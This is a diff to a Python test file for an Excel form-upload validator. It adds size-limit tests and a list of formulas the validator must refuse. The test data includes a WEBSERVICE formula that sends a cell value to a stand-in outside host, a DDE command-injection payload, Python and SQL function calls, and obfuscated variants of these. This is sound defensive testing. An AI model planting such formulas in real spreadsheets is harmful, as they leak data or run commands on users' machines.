@@ -84,6 +84,36 @@ def refuses(report: str, data: bytes, sentence: str) -> None:
     assert refusal.value.field == "file"
 
 
+LARGE = [
+    {"XFD1048576": 1},
+    {"A1001": 1},
+    {"GS1": 1},
+    {f"B{row}": "=1" for row in range(10, 1000)} | {f"C{row}": "=1" for row in range(10, 1000)}
+    | {f"D{row}": "=1" for row in range(10, 100)},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("cells", LARGE, ids=("far", "down", "right", "formulas"))
+def test_what_is_larger_than_a_form_is_refused_before_it_is_read(db, cells, monkeypatch):
+    data = forms.level(**cells)
+    monkeypatch.delattr("app.core.render.excel_open.load_workbook")
+    refuses("level", data, "at most 1000 rows and 200 columns")
+
+
+def test_a_merge_as_large_as_a_sheet_is_refused(db):
+    merged = b'<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells></worksheet>'
+    refuses("level", with_sheet(b"</worksheet>", merged), "at most 1000 rows")
+
+
+def test_all_sheets_together_are_no_larger_than_a_form(db):
+    def filled(book):
+        for number in range(3):
+            page = book.create_sheet(f"表{number}")
+            page["GR70"] = 1
+
+    refuses("level", edited(filled), "40000 cells")
+
+
 CELLS = [
     ({"C5": "{{批此}}"}, "上访层次”, C5: an unknown mark “批此”"),
     ({"B9": None, "A9": "填报人：{{填报人"}, "A9: braces that do not belong"),
@@ -93,8 +123,16 @@ CELLS = [
     ({"G5": "=C5/摘要!B1"}, "G5: on every line 摘要!B1"),
     ({"C6": "=SUM(C:C)"}, "C6: “C:C” cannot be followed"),
     ({"C6": '=SUM(INDIRECT("C5:C5"))'}, "C6: INDIRECT cannot follow"),
-    ({"C6": '=WEBSERVICE("http://elsewhere/"&C5)'}, "C6: a formula that leads out"),
-    ({"C6": '=HYPERLINK("http://elsewhere/","x")'}, "C6: a formula that leads out"),
+    ({"C6": '=WEBSERVICE("http://elsewhere/"&C5)'}, "C6: a form may not use the function WEB"),
+    ({"C6": '=HYPERLINK ("http://elsewhere/","x")'}, "C6: a formula that cannot be read"),
+    ({"C6": '=_xlfn.webservice ("http://elsewhere/")'}, "C6: a formula that cannot be read"),
+    ({"C6": '=_xlfn._xlws.PY("x")'}, "C6: a form may not use the function PY"),
+    ({"C6": '=SQL.REQUEST("x")'}, "C6: a form may not use the function SQL.REQUEST"),
+    ({"C6": '=CELL("filename")'}, "C6: a form may not use the function CELL"),
+    ({"C6": '=indirect("B5")'}, "C6: INDIRECT cannot follow"),
+    ({"C6": '=IF(1,WEBSERVICE,0)("http://elsewhere/")'}, "C6: a formula that cannot be read"),
+    ({"C6": "=IF(1,WEBSERVICE,0)"}, "C6: “WEBSERVICE” cannot be followed"),
+    ({"C6": "=_xlfn.LAMBDA(_xlpm.x,1)"}, "C6: a form may not use the function LAMBDA"),
     ({"C6": "=[1]Sheet1!A1"}, "C6: a formula that leads out"),
     ({"C6": "=cmd|' /C calc'!A0"}, "C6: a formula that cannot be read"),
     ({"C6": "=#REF!+1"}, "C6: a formula that points nowhere"),
